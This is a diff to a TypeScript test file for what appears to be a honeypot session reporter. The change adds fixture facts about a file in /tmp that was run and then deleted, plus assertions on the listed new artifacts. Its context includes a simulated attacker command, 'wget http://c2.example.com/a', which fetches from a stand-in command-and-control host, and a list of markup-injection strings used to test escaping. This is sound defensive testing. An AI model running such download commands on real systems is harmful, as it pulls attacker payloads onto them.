@@ -10,6 +10,7 @@ import { dataFolder, Live, putCapture, putLateFacts } from "../archivist/folder.
 import { Conversation, SANDBOX } from "../evidence/conversation.ts";
 import { NETWORK_FACTS, SUNK } from "../evidence/network-facts.ts";
 import { file } from "../index/told.ts";
+import { byteString } from "../evidence/indicators/byte-string.ts";
 import { Heard } from "./heard.ts";
 
 /** What would be a link, an image, HTML, another cell, another row, or a terminal's command. */
@@ -28,6 +29,9 @@ const HOSTILE = [
   "*bold* _em_ ~~x~~ &lt; &#x3c;b&#x3e; \\<b\\>",
   "",
 ] as const;
+
+/** Run and deleted, each told once. */
+const GONE = "c".repeat(64);
 
 async function report(data: string, options: Omit<ReportOptions, "data">): Promise<string> {
   const heard = new Heard();
@@ -49,6 +53,18 @@ async function told(t: TestContext): Promise<string> {
     .exec(long.open(), "uname -a")
     .exec(long.open(), "wget http://c2.example.com/a");
   for (const fact of NETWORK_FACTS) long.fact(fact);
+  const time = Date.parse("2026-11-23T02:16:00Z") * 1000;
+  for (const how of ["run", "deleted"] as const)
+    long.fact({
+      kind: "file",
+      how,
+      path: byteString("/tmp/gone"),
+      sha256: GONE,
+      size: 9,
+      uid: 0,
+      pid: 7,
+      time,
+    });
   const folder = await write(long.after(60_000));
   putCapture(data, folder, {
     ...{ sandbox: SANDBOX, sessions: [], source: "192.0.2.7", cut: false },
@@ -98,8 +114,9 @@ test("the figures are those of the sessions in the time that was asked about", a
     denied.map(({ rule, tries }) => [rule, tries]),
     [["bot", 14], ["sinkhole", 3], ["cap", 1], ["fence", 1]],
   ); // prettier-ignore
-  const [artifact, ...others] = whole["newArtifacts"] as { path: string; sources: number }[];
-  assert.deepEqual([artifact?.path, others.length], ["/tmp/x", 0]);
+  const artifacts = whole["newArtifacts"] as { path: string; sha256: string }[];
+  assert.deepEqual(artifacts.map(({ path }) => path), ["/tmp/gone", "/tmp/x"]); // prettier-ignore
+  assert.equal(artifacts[0]?.sha256, GONE);
   assert.deepEqual(whole["ends"], [
     { reason: "client-closed", sessions: 1 },
     { reason: "too-many-attempts", sessions: 1 },
